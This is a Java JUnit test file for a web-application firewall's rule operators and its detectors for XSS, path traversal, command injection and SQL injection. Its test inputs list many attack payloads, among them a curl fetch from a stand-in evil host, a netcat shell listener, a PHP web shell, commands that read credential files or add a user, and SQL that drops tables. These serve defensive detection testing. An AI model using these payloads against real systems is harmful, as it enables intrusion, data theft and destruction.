package io.palisade.core.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each operator a pack may name, compiled the way the parser compiles it. */
class OperatorTest {

    @Test
    void regexFindsAnywhereWithRe2Syntax() {
        Operator regex = Operator.compile("regex", List.of("(?i)evil\\d+"));
        assertThat(regex.matches("an EVIL42 thing")).isTrue();
        assertThat(regex.matches("evil")).isFalse();
        // RE2 has no back-references or look-around: such a pattern is refused, not run slowly.
        assertThatThrownBy(() -> Operator.compile("regex", List.of("(a)\\1"))).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("invalid RE2 regular expression");
        assertThatThrownBy(() -> Operator.compile("regex", List.of("(?=x)"))).hasMessageContaining("invalid RE2");
        assertThatThrownBy(() -> Operator.compile("regex", List.of("a", "b"))).hasMessageContaining("one pattern");
        assertThatThrownBy(() -> Operator.compile("regex", List.of("x".repeat(Operator.MAX_REGEX_LENGTH + 1))))
                .hasMessageContaining("longer than");
    }

    @Test
    void phrasesMatchAnyKeywordIgnoringCaseInOnePass() {
        Operator phrases = Operator.compile("phrases", List.of("sqlmap", "nikto", "fuzz faster u fool"));
        assertThat(phrases.matches("Mozilla/5.0 (sqlmap/1.7.2#stable)")).isTrue();
        assertThat(phrases.matches("Fuzz Faster U Fool v2.0")).isTrue();
        assertThat(phrases.matches("Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")).isFalse();
        assertThatThrownBy(() -> Operator.compile("phrases", List.of())).hasMessageContaining("non-empty list");
        assertThatThrownBy(() -> Operator.compile("phrases", List.of("a", ""))).hasMessageContaining("empty string");
    }

    @Test
    void equalsIsExactAndCaseSensitive() {
        Operator equals = Operator.compile("equals", List.of("DELETE", "TRACE"));
        assertThat(equals.matches("TRACE")).isTrue();
        assertThat(equals.matches("trace")).isFalse();
        assertThat(equals.matches("TRACED")).isFalse();
    }

    @Test
    void ipMatchTakesAddressesAndBlocksOfBothFamilies() {
        Operator ip = Operator.compile("ip_match", List.of("192.0.2.0/24", "2001:db8::/32", "198.51.100.7"));
        assertThat(ip.matches("192.0.2.200")).isTrue();
        assertThat(ip.matches("198.51.100.7")).isTrue();
        assertThat(ip.matches("198.51.100.8")).isFalse();
        assertThat(ip.matches("2001:db8:1::5")).isTrue();
        assertThat(ip.matches("2001:db9::5")).isFalse();
        assertThat(ip.matches("not an address")).isFalse();
        assertThatThrownBy(() -> Operator.compile("ip_match", List.of("10.0.0.0/33"))).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void detectorsTakeNoValue() {
        for (String detector : Operator.DETECTORS) {
            assertThat(Operator.compile(detector, List.of()).name()).isEqualTo(detector);
            assertThatThrownBy(() -> Operator.compile(detector, List.of("x"))).hasMessageContaining("takes no \"value\"");
        }
        assertThatThrownBy(() -> Operator.compile("contains", List.of("x"))).hasMessageContaining("unknown operator 'contains'")
                .hasMessageContaining("known: detect_command_injection");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"",
        "javascript:alert(document.domain)", "%3Csvg%2Fonload%3Dalert(1)%3E", "&lt;iframe src=//evil&gt;",
        "'-alert(1)-'", "<a href=\"jav&#x09;ascript:alert(1)\">", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<div style=\"x:expression(alert(1))\">", "<a href=\"javascript\\u003aalert(1)\">",
        "{{constructor.constructor('alert(1)')()}}"})
    void xssDetectorFires(String attack) {
        assertThat(Detectors.xss(attack)).as(attack).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Tom & Jerry", "5 > 3 and 2 < 4", "Use the <template> element", "JavaScript: The Good Parts",
        "onClick handler in React", "python eval() function", "alice@example.com", "https://example.com/?a=1&b=2",
        "Please confirm (by e-mail)", "I <3 this book", "She wrote \"online = always\""})
    void xssDetectorLeavesOrdinaryTextAlone(String text) {
        assertThat(Detectors.xss(text)).as(text).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc/passwd", "%252e%252e%252fetc%252fpasswd", "....//....//etc/passwd", "/etc/shadow",
        "file:///etc/passwd", "..%u2216..%u2216boot.ini", "%uff0e%uff0e/%uff0e%uff0e/etc/hosts", "..;/WEB-INF/web.xml",
        "C:\\boot.ini", "/proc/self/environ", ".."})
    void pathTraversalDetectorFires(String attack) {
        assertThat(Detectors.pathTraversal(attack)).as(attack).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"see ./docs/readme.md", "wait... what?", "1/2 cup sugar", "C:\\Users\\alice\\Documents",
        "https://example.com/a/b.html", "version 1.2.3", "cat /etc/hosts", "Chapter 1...2"})
    void pathTraversalDetectorLeavesOrdinaryTextAlone(String text) {
        assertThat(Detectors.pathTraversal(text)).as(text).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x; cat /etc/passwd", "a | id", "`whoami`", "$(curl http://evil.example/x.sh)", "1 && sleep 5",
        "x & ping -c 3 127.0.0.1", "a%0a/usr/bin/id", "() { :; }; /bin/bash -c id", "x;${IFS}cat${IFS}/etc/passwd",
        "& net user hacker P4ss /add", "<!--#exec cmd=\"ls\"-->", "<?php system($_GET['c']); ?>", "{{7*7}}",
        "nc -lvp 4444 -e /bin/sh", "T(java.lang.Runtime).getRuntime().exec('id')",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
        "#{new java.lang.ProcessBuilder({'id'}).start()}"})
    void commandInjectionDetectorFires(String attack) {
        assertThat(Detectors.commandInjection(attack)).as(attack).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"I was tired; sleep came fast.", "Tom & Jerry", "git log | grep fix", "npm run build && npm test",
        "ls -la explained", "echo chamber", "Cats and dogs; cat lovers will enjoy it.", "Salt & pepper; more please.",
        "python eval() function", "cat\nid\nls", "java.lang.Runtime", "What does java.lang.System.exit do?"})
    void commandInjectionDetectorLeavesOrdinaryTextAlone(String text) {
        assertThat(Detectors.commandInjection(text)).as(text).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x' OR '1'='1", "1 UNION ALL SELECT username, password FROM users", "admin'--",
        "'; DROP TABLE users; --", "1 AND SLEEP(5)", "x' AND 1=1 #", "1 or 1=1 --", "1;WAITFOR DELAY '0:0:5'"})
    void sqlInjectionDetectorFires(String attack) {
        assertThat(Detectors.sqlInjection(attack)).as(attack).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"O'Brien", "He said 'or else' and left.", "It's 'quoted' -- mostly", "sleep(8 hours) is healthy",
        "Union Station at 5pm?", "Select the best one, then update your order", "between 5 and 10"})
    void sqlInjectionDetectorLeavesOrdinaryTextAlone(String text) {
        assertThat(Detectors.sqlInjection(text)).as(text).isFalse();
    }

    @org.junit.jupiter.api.Test
    void phrasesMatchLikeAhoCorasickWhateverTheInput() {
        Operator phrases = Operator.compile("phrases", List.of("sqlmap", "nikto", "nmap scripting engine", "fuzz faster u fool"));
        assertThat(phrases.matches("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")).isFalse();
        assertThat(phrases.matches("sqlmap/1.8.2#stable (https://sqlmap.org)")).isTrue();
        assertThat(phrases.matches("Mozilla/5.00 (Nikto/2.5.0)")).isTrue();
        assertThat(phrases.matches("xx SQLMAP")).isTrue();
        assertThat(phrases.matches("Fuzz Faster U Fool v2.1")).isTrue();
        assertThat(phrases.matches("s\u212aiptest nmap scripting engine")).isTrue();
        assertThat(phrases.matches("\u212a nikto")).isTrue();
        assertThat(phrases.matches("sq")).isFalse();
        // Every position a candidate, none a match: the allowance hands over to Aho-Corasick.
        Operator near = Operator.compile("phrases", List.of("aaa" + "a".repeat(60) + "b", "aab"));
        assertThat(near.matches("a".repeat(4096))).isFalse();
        assertThat(near.matches("a".repeat(4096) + "b")).isTrue();
        // Sets the index does not take (short or non-ASCII phrases) go to Aho-Corasick.
        assertThat(Operator.compile("phrases", List.of("ab", "ü")).matches("xxABxx")).isTrue();
        assertThat(Operator.compile("phrases", List.of("grüße")).matches("viele GRÜSSE")).isFalse();
    }
}
